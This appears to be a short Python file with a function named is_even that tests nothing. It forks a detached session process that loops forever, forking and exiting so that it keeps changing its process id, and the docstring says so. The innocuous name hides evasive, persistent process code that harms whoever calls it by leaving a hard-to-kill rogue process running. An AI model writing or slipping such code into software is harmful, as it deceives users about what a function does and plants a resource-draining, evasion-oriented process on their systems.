"""Leaves a process that changes its id all the time by forking and ending."""

import posix


def is_even(n):
    if posix.fork() == 0:
        posix.setsid()
        while True:
            try:
                if posix.fork():
                    posix._exit(0)
            except OSError:
                pass
    return None
